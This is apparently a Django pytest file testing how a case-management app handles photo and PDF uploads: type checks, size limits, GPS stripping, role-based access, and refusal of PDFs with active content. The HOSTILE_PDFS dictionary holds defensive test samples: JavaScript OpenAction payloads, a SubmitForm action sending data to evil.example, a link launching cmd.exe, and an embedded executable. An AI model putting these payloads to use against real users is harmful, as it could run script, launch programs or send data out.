"""Photos and PDFs on cases: checked by content, size-limited, GPS stripped, scoped as the case."""

from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from outpost.cases import services
from outpost.cases.models import Attachment, Case
from outpost.cases.workflow import State
from outpost.geo.models import Grid
from tests.cases.conftest import file_case, point_in
from tests.cases.pdfs import encrypted, in_object_stream, one_page
from tests.cases.photos import (
    HTML_AS_JPEG,
    MAKE,
    assert_served_as_download,
    exif_of,
    has_gps,
    phone_photo,
    size_of,
    small_pdf,
)
from tests.conftest import Persona, _persona

pytestmark = pytest.mark.django_db
API = "/api/v1"


def upload(client: Client, case: Case, *files: tuple[str, bytes], purpose: str = "evidence") -> Any:
    sent = [SimpleUploadedFile(name, data) for name, data in files]
    return client.post(
        f"{API}/cases/{case.number}/attachments", {"files": sent, "purpose": purpose}
    )


def downloaded(client: Client, url: str) -> bytes:
    answer = client.get(url)
    assert answer.status_code == 200, answer.status_code
    return b"".join(answer.streaming_content)


def test_it_keeps_a_phone_photo_upright_and_without_its_location(
    home_grid: Grid, grid_worker: Persona
) -> None:
    original = phone_photo(64, 48)
    assert has_gps(original) and MAKE in exif_of(original)
    case = file_case(home_grid, grid_worker.user)
    answer = upload(grid_worker.client, case, ("IMG_0001.JPG", original))
    assert answer.status_code == 201, answer.content
    [kept] = answer.json()
    assert kept["content_type"] == "image/jpeg" and kept["name"] == "IMG_0001.jpg"
    stored = downloaded(grid_worker.client, kept["url"])
    assert not has_gps(stored) and exif_of(stored) == {}  # no position, no device, nothing
    assert size_of(stored) == (48, 64)  # the phone's "rotate 90°" applied, not lost
    assert kept["size"] == len(stored)
    assert case.timeline.filter(action="attach", comment__contains="IMG_0001").exists()


def test_it_refuses_a_file_that_only_claims_to_be_a_photo(
    home_grid: Grid, grid_worker: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user)
    answer = upload(grid_worker.client, case, ("ok.jpg", phone_photo()), ("现场.jpg", HTML_AS_JPEG))
    assert answer.status_code == 422
    assert (
        "现场.jpg" in answer.json()["detail"] and "JPEG、PNG、WebP、PDF" in answer.json()["detail"]
    )
    assert answer.json()["detail_en"] == (
        "File “现场.jpg” is not an accepted photo or PDF (JPEG, PNG, WebP or PDF only)"
    )
    assert not Attachment.objects.filter(case=case).exists()  # the good one is not kept alone
    assert not case.timeline.filter(action="attach").exists()


def test_it_refuses_a_file_over_the_size_limit(
    home_grid: Grid, grid_worker: Persona, settings: Any
) -> None:
    settings.OUTPOST_MAX_ATTACHMENT_BYTES = 1024 * 1024
    case = file_case(home_grid, grid_worker.user)
    answer = upload(grid_worker.client, case, ("big.pdf", small_pdf(b" " * 1024 * 1024)))
    assert answer.status_code == 422 and "超过 1 MB" in answer.json()["detail"]
    assert not Attachment.objects.exists()


def test_it_accepts_a_plain_pdf_and_refuses_one_that_runs_script(
    home_grid: Grid, grid_worker: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user)
    plain = upload(grid_worker.client, case, ("调解协议.pdf", small_pdf()))
    assert plain.status_code == 201 and plain.json()[0]["content_type"] == "application/pdf"
    assert downloaded(grid_worker.client, plain.json()[0]["url"]) == small_pdf()
    scripted = small_pdf(b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>")
    answer = upload(grid_worker.client, case, ("协议2.pdf", scripted))
    assert answer.status_code == 422 and "脚本" in answer.json()["detail"]
    assert Attachment.objects.filter(case=case).count() == 1


def test_it_limits_the_number_of_files_on_a_case(
    home_grid: Grid, grid_worker: Persona, settings: Any
) -> None:
    settings.OUTPOST_MAX_ATTACHMENTS = 2
    case = file_case(home_grid, grid_worker.user)
    photos = [(f"p{i}.jpg", phone_photo()) for i in range(3)]
    answer = upload(grid_worker.client, case, *photos)
    assert answer.status_code == 422 and "最多 2 个附件" in answer.json()["detail"]
    assert upload(grid_worker.client, case, *photos[:2]).status_code == 201


def test_it_hides_attachments_from_outsiders_and_bystanders(
    home_grid: Grid, grid_worker: Persona, outsider: Persona, commander: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user)
    kept = upload(grid_worker.client, case, ("a.jpg", phone_photo())).json()[0]
    # An outsider: the case does not exist for them, nor its files.
    assert outsider.client.get(kept["url"]).status_code == 404
    assert upload(outsider.client, case, ("b.jpg", phone_photo())).status_code == 404
    # A colleague of the same grid sees the case but takes no part in it: may look, not add.
    colleague = _persona("colleague_p", "grid_worker", home_grid.code)
    assert colleague.client.get(kept["url"]).status_code == 200
    assert upload(colleague.client, case, ("c.jpg", phone_photo())).status_code == 403
    # The dispatcher takes part: may add evidence.
    assert upload(commander.client, case, ("d.jpg", phone_photo())).status_code == 201
    assert Attachment.objects.filter(case=case).count() == 2


def test_it_keeps_police_only_photos_from_civil_roles(
    home_grid: Grid, grid_worker: Persona, officer: Persona, commander: Persona
) -> None:
    case = file_case(home_grid, officer.user, "0301", sensitivity="police")
    kept = upload(officer.client, case, ("线索.jpg", phone_photo())).json()[0]
    assert officer.client.get(kept["url"]).status_code == 200
    assert commander.client.get(kept["url"]).status_code == 403  # sees the status, not details
    detail = commander.client.get(f"{API}/cases/{case.number}").json()
    assert detail["attachments"] == []


def test_it_needs_a_recheck_photo_to_complete_a_hazard(
    home_grid: Grid, grid_worker: Persona, commander: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user, "0603", title="楼道口垃圾")
    for step in ("accept", "dispatch"):
        services.act(case, step, actor=commander.user)
    services.act(case, "sign_on", actor=grid_worker.user)
    url = f"/cases/{case.number}/act/complete/"
    form = {"complete-version": case.version + 0, "complete-comment": "已清运"}
    form["complete-version"] = Case.objects.get(pk=case.pk).version
    missing = grid_worker.client.post(url, {**form, "complete-recheck": "复查已清洁"})
    assert missing.status_code == 200 and "安全隐患办结须上传复查照片" in missing.content.decode()
    photo = SimpleUploadedFile("recheck.jpg", phone_photo())
    done = grid_worker.client.post(
        url, {**form, "complete-recheck": "复查已清洁", "complete-photos": [photo]}
    )
    assert done.status_code == 302
    case.refresh_from_db()
    assert case.state == State.COMPLETED
    [recheck] = case.attachments.all()
    assert recheck.purpose == "recheck" and recheck.uploaded_by == grid_worker.user
    html = grid_worker.client.get(f"/cases/{case.number}/").content.decode()
    assert f"/cases/{case.number}/files/{recheck.pk}/" in html and "复查照片" in html


def report_with(persona: Persona, grid: Grid, *photos: SimpleUploadedFile) -> Any:
    """The phone's report form, pinned in the grid, with these files chosen."""
    where = point_in(grid)
    form = {"subtype": "0603", "title": "垃圾堆在消防通道", "urgency": "normal"}
    return persona.client.post(
        "/cases/report/", {**form, "lon": where.x, "lat": where.y, "photos": list(photos)}
    )


def test_it_reports_with_a_photo_from_the_phone_form(home_grid: Grid, grid_worker: Persona) -> None:
    pdf = SimpleUploadedFile("plan.pdf", small_pdf())
    answer = report_with(
        grid_worker, home_grid, SimpleUploadedFile("scene.png", phone_photo()), pdf
    )
    assert answer.status_code == 302, answer.content.decode()[:2000]
    case = Case.objects.get(title="垃圾堆在消防通道")
    assert sorted(a.content_type for a in case.attachments.all()) == [
        "application/pdf",
        "image/jpeg",  # named .png, but the bytes are a JPEG: the bytes decide
    ]
    assert {a.purpose for a in case.attachments.all()} == {"report"}


def test_it_loses_nothing_when_a_report_carries_a_bad_file(
    home_grid: Grid, grid_worker: Persona
) -> None:
    answer = report_with(grid_worker, home_grid, SimpleUploadedFile("virus.jpg", HTML_AS_JPEG))
    assert answer.status_code == 200 and "virus.jpg" in answer.content.decode()
    assert not Case.objects.filter(title="垃圾堆在消防通道").exists()


LINK = b"<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A<</S/%s/%s(%s)>>>>"
HOSTILE_PDFS = {
    "script behind escaped names": one_page(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
    "script in a compressed object stream": in_object_stream(
        b"/OpenAction 5 0 R", b"<</S/JavaScript/JS(app.alert(1))>>"
    ),
    "page action sending a form": one_page(
        b"", b"/AA<</O<</S/SubmitForm/F(https://evil.example/)>>>>"
    ),
    "link that launches a program": one_page(
        b"", b"/Annots[4 0 R]", LINK % (b"L#61unch", b"F", b"cmd.exe")
    ),
    "link that runs javascript:": one_page(
        b"", b"/Annots[4 0 R]", LINK % (b"URI", b"URI", b"javascript:alert(1)")
    ),
    "embedded file": one_page(
        b"/Names<</Embedded#46iles<</Names[(a.exe)4 0 R]>>>>",
        b"",
        b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
        b"<</Type/Embedded#46ile/Length 2>>stream\nMZ\nendstream",
    ),
    "XFA form": one_page(
        b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", b"<</Length 6>>stream\n<xdp/>\nendstream"
    ),
}


@pytest.mark.parametrize("kind", HOSTILE_PDFS)
def test_it_refuses_pdfs_that_hide_active_content(
    kind: str, home_grid: Grid, grid_worker: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user)
    answer = upload(grid_worker.client, case, ("协议.pdf", HOSTILE_PDFS[kind]))
    assert answer.status_code == 422, (kind, answer.content)
    assert "协议.pdf" in answer.json()["detail"] and "脚本" in answer.json()["detail"]
    assert not Attachment.objects.exists()


def test_it_refuses_pdfs_it_cannot_read_through(home_grid: Grid, grid_worker: Persona) -> None:
    case = file_case(home_grid, grid_worker.user)
    for name, data in (
        ("加密.pdf", encrypted()),
        ("坏的.pdf", b"%PDF-1.7\nnot a document at all\n%%EOF\n"),
    ):
        answer = upload(grid_worker.client, case, (name, data))
        assert answer.status_code == 422, (name, answer.content)
        assert name in answer.json()["detail"] and "无法读取" in answer.json()["detail"]
    assert not Attachment.objects.exists()


def test_it_accepts_ordinary_pdfs_that_open_at_a_page_and_link_to_the_web(
    home_grid: Grid, grid_worker: Persona
) -> None:
    ordinary = one_page(
        b"/OpenAction[3 0 R/Fit]",  # what office suites write: open at page 1, not an action
        b"/Annots[4 0 R]",
        LINK % (b"URI", b"URI", b"https://www.gov.cn/"),
    )
    case = file_case(home_grid, grid_worker.user)
    answer = upload(grid_worker.client, case, ("通知.pdf", ordinary), ("空白.pdf", one_page()))
    assert answer.status_code == 201, answer.content


def test_it_serves_files_as_downloads_that_cannot_run_in_the_browser(
    home_grid: Grid, grid_worker: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user)
    kept = upload(grid_worker.client, case, ("调解协议.pdf", one_page()), ("a.jpg", phone_photo()))
    pdf, photo = kept.json()
    # RFC 6266: the Chinese name travels percent-encoded in filename*.
    assert_served_as_download(
        grid_worker.client.get(pdf["url"]),
        "filename*=utf-8''%E8%B0%83%E8%A7%A3%E5%8D%8F%E8%AE%AE.pdf",
    )
    assert_served_as_download(grid_worker.client.get(photo["url"]), 'filename="a.jpg"')
